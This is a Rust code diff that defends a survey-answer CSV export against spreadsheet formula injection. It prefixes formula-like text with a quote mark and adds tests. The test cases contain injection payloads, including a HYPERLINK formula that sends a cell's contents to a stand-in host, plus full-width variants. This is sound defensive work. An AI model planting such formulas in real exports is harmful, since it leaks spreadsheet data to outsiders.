@@ -9,9 +9,12 @@
 //!   scenario's time zone, to the millisecond), variant (the A/B arm, empty
 //!   when the run took no split).
 //!
-//! Values are written as stored. A typed answer that begins with `=`, `+`, `-`
-//! or `@` is therefore a formula to a spreadsheet that opens the file; the
-//! README says so (the export must round-trip what users wrote).
+//! A text cell a spreadsheet would read as a formula (its first character,
+//! after NFKC, is `=`, `+`, `-`, `@`, a tab or a carriage return: OWASP's
+//! rule, which catches `＝` too) is written with a leading `'`, so a friend of
+//! the account cannot put a live formula into the operator's spreadsheet.
+//! Number answers stay numbers (a negative number is not prefixed). The raw
+//! form ([`Cells::Raw`]) keeps every value exactly as stored.
 
 use crate::scenario::typed::AnswerValue;
 use crate::scenario::{LoadedScenario, Node};
@@ -19,6 +22,33 @@ use crate::store::ListedAnswer;
 use chrono::{DateTime, SecondsFormat};
 use chrono_tz::Tz;
 use std::collections::HashMap;
+use unicode_normalization::UnicodeNormalization;
+
+/// How text cells are written.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub(crate) enum Cells {
+    /// Formula-like text defused with a leading `'` (the default download).
+    Safe,
+    /// Every value exactly as stored (`?raw=true`).
+    Raw,
+}
+
+impl Cells {
+    fn text(self, text: String) -> String {
+        match self {
+            Cells::Raw => text,
+            Cells::Safe => defused(text),
+        }
+    }
+}
+
+/// `text` with a leading `'` when a spreadsheet would read it as a formula.
+pub(crate) fn defused(text: String) -> String {
+    match text.nfkc().next() {
+        Some('=' | '+' | '-' | '@' | '\t' | '\r') => format!("'{text}"),
+        _ => text,
+    }
+}
 
 /// Makes Excel read the file as UTF-8.
 pub(crate) const BOM: &[u8] = b"\xEF\xBB\xBF";
@@ -83,19 +113,25 @@ pub(crate) fn local_time(micros: Option<i64>, zone: Tz) -> String {
         .unwrap_or_default()
 }
 
-/// The fields of one answer's row.
-pub(crate) fn row(answer: &ListedAnswer, labels: &Labels, zone: Tz) -> [String; 8] {
-    [
-        answer.line_user_id.clone(),
-        answer.node_id.clone(),
+/// The fields of one answer's row, text cells written as `cells` says.
+pub(crate) fn row(answer: &ListedAnswer, labels: &Labels, zone: Tz, cells: Cells) -> [String; 8] {
+    let value = match &answer.value {
+        // A number answer stays a number, its sign included.
+        Some(number @ (AnswerValue::Integer(_) | AnswerValue::Number(_))) => number.to_string(),
+        Some(AnswerValue::Text(text)) => cells.text(text.clone()),
         // A redacted answer (unsent by the user) has no value: an empty field.
-        answer.value.as_ref().map(ToString::to_string).unwrap_or_default(),
-        labels.label(&answer.node_id, answer.value.as_ref()).to_owned(),
-        answer.tags.join(TAG_SEPARATOR),
+        None => String::new(),
+    };
+    [
+        cells.text(answer.line_user_id.clone()),
+        cells.text(answer.node_id.clone()),
+        value,
+        cells.text(labels.label(&answer.node_id, answer.value.as_ref()).to_owned()),
+        cells.text(answer.tags.join(TAG_SEPARATOR)),
         answer.scenario_version.map(|v| v.to_string()).unwrap_or_default(),
         local_time(answer.answered_at.map(firestore::jiff::Timestamp::as_microsecond), zone),
         // The A/B arm the question was asked in; empty when the run took no split.
-        answer.variant.clone().unwrap_or_default(),
+        cells.text(answer.variant.clone().unwrap_or_default()),
     ]
 }
 
@@ -105,6 +141,7 @@ pub(crate) fn encode<'a>(
     answers: impl IntoIterator<Item = &'a ListedAnswer>,
     labels: &Labels,
     zone: Tz,
+    cells: Cells,
 ) -> Result<Vec<u8>, csv::Error> {
     let mut out = Vec::new();
     if head {
@@ -117,7 +154,7 @@ pub(crate) fn encode<'a>(
         writer.write_record(HEADER)?;
     }
     for answer in answers {
-        writer.write_record(row(answer, labels, zone))?;
+        writer.write_record(row(answer, labels, zone, cells))?;
     }
     writer.into_inner().map_err(|error| error.into_error().into())
 }
@@ -162,13 +199,13 @@ mod tests {
 
     #[test]
     fn the_file_starts_with_a_bom_and_the_header() {
-        let bytes = encode(true, [], &labels(), chrono_tz::Asia::Tokyo).unwrap();
+        let bytes = encode(true, [], &labels(), chrono_tz::Asia::Tokyo, Cells::Safe).unwrap();
         assert_eq!(&bytes[..3], [0xEF, 0xBB, 0xBF]);
         assert_eq!(
             std::str::from_utf8(&bytes[3..]).unwrap(),
             "user_id,node,value,choice_label,tags,scenario_version,answered_at,variant\r\n"
         );
-        let rows = encode(false, [], &labels(), chrono_tz::Asia::Tokyo).unwrap();
+        let rows = encode(false, [], &labels(), chrono_tz::Asia::Tokyo, Cells::Safe).unwrap();
         assert!(rows.is_empty(), "later pages carry neither BOM nor header");
     }
 
@@ -186,7 +223,7 @@ mod tests {
         ];
         for (value, expected) in cases {
             let row = answer("comment", value.clone(), &[], AT);
-            let bytes = encode(false, [&row], &labels(), chrono_tz::Asia::Tokyo).unwrap();
+            let bytes = encode(false, [&row], &labels(), chrono_tz::Asia::Tokyo, Cells::Safe).unwrap();
             let line = String::from_utf8(bytes).unwrap();
             let expected =
                 format!("U0123456789abcdef0123456789abcdef,comment,{expected},,,3,2026-12-01T10:00:00.000+09:00,\r\n");
@@ -203,7 +240,7 @@ mod tests {
             answer("age", Some(AnswerValue::Number(3.5)), &[], AT),
         ];
         answers[0].variant = Some("B".to_owned());
-        let bytes = encode(true, &answers, &labels(), chrono_tz::Asia::Tokyo).unwrap();
+        let bytes = encode(true, &answers, &labels(), chrono_tz::Asia::Tokyo, Cells::Raw).unwrap();
         let mut reader = csv::ReaderBuilder::new().from_reader(&bytes[3..]);
         let rows: Vec<Vec<String>> = reader
             .records()
@@ -211,7 +248,7 @@ mod tests {
             .collect();
         let expected: Vec<Vec<String>> = answers
             .iter()
-            .map(|answer| row(answer, &labels(), chrono_tz::Asia::Tokyo).to_vec())
+            .map(|answer| row(answer, &labels(), chrono_tz::Asia::Tokyo, Cells::Raw).to_vec())
             .collect();
         assert_eq!(rows, expected);
         assert_eq!(rows[0][3], "とても良い");
@@ -226,6 +263,44 @@ mod tests {
             ("B", ""),
             "the arm, or empty"
         );
+    }
+
+    /// OWASP's rule: a text cell starting (after NFKC) with `=`, `+`, `-`,
+    /// `@`, a tab or a carriage return gets a leading `'`; numbers never do.
+    #[test]
+    fn formula_like_text_is_defused_and_numbers_stay_numbers() {
+        let cases: [(Option<AnswerValue>, &str, &str); 17] = [
+            (text("=HYPERLINK(\"https://x.example/?\"&A2,\"open\")"), "'=HYPERLINK(\"https://x.example/?\"&A2,\"open\")", "formula"),
+            (text("+1"), "'+1", "plus"),
+            (text("-1"), "'-1", "a typed text, not a number"),
+            (text("@SUM(A1)"), "'@SUM(A1)", "at"),
+            (text("\tx"), "'\tx", "tab"),
+            (text("\rx"), "'\rx", "carriage return"),
+            (text("＝1+1"), "'＝1+1", "full-width equals"),
+            (text("＋1"), "'＋1", "full-width plus"),
+            (text("－1"), "'－1", "full-width minus"),
+            (text("＠x"), "'＠x", "full-width at"),
+            (text("﹦1"), "'﹦1", "small equals"),
+            (text("a=1"), "a=1", "not first"),
+            (text(" =1"), " =1", "a space first"),
+            (text("'=1"), "'=1", "already quoted"),
+            (Some(AnswerValue::Integer(-5)), "-5", "a negative number"),
+            (Some(AnswerValue::Number(-1.5)), "-1.5", "a negative decimal"),
+            (None, "", "redacted"),
+        ];
+        for (value, expected, why) in cases {
+            let answer = answer("comment", value.clone(), &[], AT);
+            let safe = row(&answer, &labels(), chrono_tz::Asia::Tokyo, Cells::Safe);
+            assert_eq!(safe[2], expected, "{why}");
+            let raw = row(&answer, &labels(), chrono_tz::Asia::Tokyo, Cells::Raw);
+            let stored = value.as_ref().map(ToString::to_string).unwrap_or_default();
+            assert_eq!(raw[2], stored, "raw keeps {why} as stored");
+        }
+        // Tags and variants are text cells too.
+        let mut tagged = answer("rating", text("good"), &["-x", "y"], AT);
+        tagged.variant = Some("+B".to_owned());
+        let safe = row(&tagged, &labels(), chrono_tz::Asia::Tokyo, Cells::Safe);
+        assert_eq!((safe[4].as_str(), safe[7].as_str()), ("'-x;y", "'+B"));
     }
 
     #[test]
